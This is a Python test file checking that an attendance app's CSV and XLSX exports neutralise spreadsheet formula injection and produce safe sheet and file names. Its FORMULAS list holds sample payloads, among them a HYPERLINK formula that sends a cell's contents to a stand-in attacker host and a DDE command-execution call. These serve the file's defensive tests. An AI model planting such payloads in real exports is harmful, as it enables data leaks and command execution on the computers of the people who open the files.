"""Exports a spreadsheet opens safely: no cell becomes a formula or a link, any lesson name
makes a sheet name, and the file is saved under the lesson's or course's name and date."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import AsyncIterator
from dataclasses import dataclass
from typing import Any
from urllib.parse import unquote

import httpx
import openpyxl
import pytest

from attn.services import exports
from attn.tasks.sweep import sweep_attendances
from tests.support.api import Api

# What a spreadsheet would run: a link that leaks the sheet, arithmetic, a DDE call.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
]


@dataclass
class Exported:
    api: Api
    teacher_headers: dict[str, str]
    pages: httpx.AsyncClient
    lesson_id: str


def page_client(api: Api, headers: dict[str, str]) -> httpx.AsyncClient:
    """The teacher's browser: the pages' session cookie holds the API's access token."""
    return httpx.AsyncClient(
        transport=httpx.ASGITransport(app=api.app),
        base_url="http://testserver",
        cookies={"attn_session": headers["Authorization"].removeprefix("Bearer ")},
    )


async def lesson_of(api: Api, lesson_name: str, student_names: list[str]) -> Exported:
    """A finished, persisted lesson named `lesson_name` that these students joined; the
    teacher rejected the first with a formula as the reason."""
    _, teacher_headers = await api.user_headers("teacher")
    lesson = await api.start_lesson(teacher_headers, lesson_name=lesson_name)
    lesson_id = lesson["lesson_id"]
    numbers = []
    for name in student_names:
        student, headers = await api.user_headers("student", full_name=name)
        joined = await api.client.post(f"/student/lessons/{lesson_id}/attendance", headers=headers)
        assert joined.status_code == 201, joined.text
        numbers.append(student.school_number)
    if numbers:
        rejected = await api.client.patch(
            f"/teacher/lessons/{lesson_id}/records/{numbers[0]}",
            json={"status": "rejected", "reason": FORMULAS[0]},
            headers=teacher_headers,
        )
        assert rejected.status_code == 200, rejected.text
    finished = await api.client.post(
        f"/teacher/lessons/{lesson_id}/finish", headers=teacher_headers
    )
    assert finished.status_code == 200
    await sweep_attendances(api.context)
    return Exported(api, teacher_headers, page_client(api, teacher_headers), lesson_id)


@pytest.fixture
async def formulas(api: Api) -> AsyncIterator[Exported]:
    exported = await lesson_of(api, "=SUM(A1:A9)", FORMULAS)
    async with exported.pages:
        yield exported


def csv_table(response: httpx.Response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def xlsx_cells(response: httpx.Response) -> list[Any]:
    assert response.status_code == 200, response.text
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    return [cell for row in workbook.worksheets[0].iter_rows() for cell in row]


async def test_spreadsheet_formula_injection_is_quoted_in_csv(formulas: Exported) -> None:
    for path, params in [
        (f"/teacher/lessons/{formulas.lesson_id}/export.csv", {}),
        ("/teacher/course/export.csv", {"name": "=SUM(A1:A9)"}),
    ]:
        table = csv_table(await formulas.pages.get(path, params=params))
        cells = [cell for row in table for cell in row]
        for formula in FORMULAS:
            assert "'" + formula in cells, (path, formula, table)
        # no cell is left that a spreadsheet would read as a formula
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_spreadsheet_formula_injection_quotes_tabs_and_carriage_returns_in_csv() -> None:
    body = exports.to_csv(["a", "b", "c"], [["\t=1+1", "\r@x", "plain -1"]])
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[1] == ["'\t=1+1", "'\r@x", "plain -1"]


async def test_spreadsheet_formula_injection_xlsx_cells_are_strings(formulas: Exported) -> None:
    for path, params in [
        (f"/teacher/lessons/{formulas.lesson_id}/export.xlsx", {}),
        ("/teacher/course/export.xlsx", {"name": "=SUM(A1:A9)"}),
    ]:
        cells = xlsx_cells(await formulas.pages.get(path, params=params))
        written = [cell for cell in cells if cell.value is not None]
        assert written
        # text is always a string cell: no formula, no link; numbers and times are typed
        assert {cell.data_type for cell in written} <= {"s", "n", "d"}, [
            (cell.coordinate, cell.data_type, cell.value) for cell in written
        ]
        assert all(cell.data_type == "s" for cell in written if isinstance(cell.value, str))
        assert not [cell for cell in written if cell.hyperlink is not None]
        values = {cell.value for cell in written}
        for formula in FORMULAS:
            assert formula in values, (path, formula)  # as typed, not quoted


SHEET_NAMES = [
    # the 31st character is the apostrophe: cut first, then clean
    ("Advanced Topics in Shakespeare's Plays", "Advanced Topics in Shakespeare"),
    # an emoji is two of Excel's 31 units
    ("Tarih " + "\U0001f4da" * 14, "Tarih " + "\U0001f4da" * 12),
    ("'Quoted'", "Quoted"),
    ("Physics [Lab] 1/2: Optics?", "Physics -Lab- 1-2- Optics-"),
    ("'''", "Attendance"),
]


async def test_xlsx_export_names_the_sheet_after_any_lesson_name(api: Api) -> None:
    for lesson_name, sheet in SHEET_NAMES:
        exported = await lesson_of(api, lesson_name, ["Elif Kaya"])
        async with exported.pages:
            for path, params in [
                (f"/teacher/lessons/{exported.lesson_id}/export.xlsx", {}),
                ("/teacher/course/export.xlsx", {"name": lesson_name}),
            ]:
                response = await exported.pages.get(path, params=params)
                assert response.status_code == 200, (lesson_name, path, response.text)
                workbook = openpyxl.load_workbook(io.BytesIO(response.content))
                assert workbook.worksheets[0].title == sheet


def file_names(response: httpx.Response) -> tuple[str, str]:
    """The ASCII `filename` and the decoded UTF-8 `filename*` of a download."""
    disposition = response.headers["content-disposition"]
    assert disposition.startswith("attachment; ")
    plain = re.search(r'filename="([^"]*)"', disposition)
    extended = re.search(r"filename\*=UTF-8''(\S+)", disposition)
    assert plain and extended, disposition
    assert disposition.isascii()
    return plain.group(1), unquote(extended.group(1))


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
async def test_export_file_names_carry_the_name_and_the_date(api: Api, kind: str) -> None:
    exported = await lesson_of(api, 'Çağdaş Fizik: Işık/Optik "İleri"', ["Elif Kaya"])
    async with exported.pages:
        lesson = (
            await api.client.get(
                f"/teacher/lessons/{exported.lesson_id}", headers=exported.teacher_headers
            )
        ).json()
        day = lesson["start_time"][:10]
        moment = day + "-" + lesson["start_time"][11:13] + lesson["start_time"][14:16]
        response = await exported.pages.get(f"/teacher/lessons/{exported.lesson_id}/export.{kind}")
        assert response.status_code == 200
        plain, full = file_names(response)
        assert plain == f"Cagdas-Fizik-Isik-Optik-Ileri-{moment}.{kind}"
        assert full == f"Çağdaş Fizik Işık Optik İleri {moment}.{kind}"

        response = await exported.pages.get(
            f"/teacher/course/export.{kind}", params={"name": 'çağdaş fizik: ışık/optik "ileri"'}
        )
        assert response.status_code == 200
        plain, full = file_names(response)
        today = api.context.now().strftime("%Y-%m-%d")
        assert plain.endswith(f"-{today}.{kind}") and plain.isascii()
        assert full.endswith(f" {today}.{kind}")


async def test_roll_exports_carry_a_flags_column(api: Api) -> None:
    _, headers = await api.user_headers("teacher")
    roster = "school_number,full_name\nR1,Someone Listed\n"
    put = await api.client.put(
        "/teacher/rosters/Optics",
        content=roster,
        headers={**headers, "Content-Type": "text/csv"},
    )
    assert put.status_code == 200, put.text
    lesson = await api.start_lesson(headers, lesson_name="Optics")
    outsider, outsider_headers = await api.user_headers("student")
    joined = await api.client.post(
        f"/student/lessons/{lesson['lesson_id']}/attendance", headers=outsider_headers
    )
    assert joined.json()["flags"] == ["not_on_roster"]
    async with page_client(api, headers) as pages:
        path = f"/teacher/lessons/{lesson['lesson_id']}/export"
        table = csv_table(await pages.get(path + ".csv"))
        assert table[0] == exports.ROLL_HEADER
        assert table[0][-1] == "flags"
        by_number = {row[0]: row for row in table[1:]}
        assert by_number[outsider.school_number][-1] == "not_on_roster"
        response = await pages.get(path + ".xlsx")
        workbook = openpyxl.load_workbook(io.BytesIO(response.content))
        rows = list(workbook.worksheets[0].iter_rows(values_only=True))
        assert rows[0][-1] == "flags"
        assert rows[1][-1] == "not_on_roster"
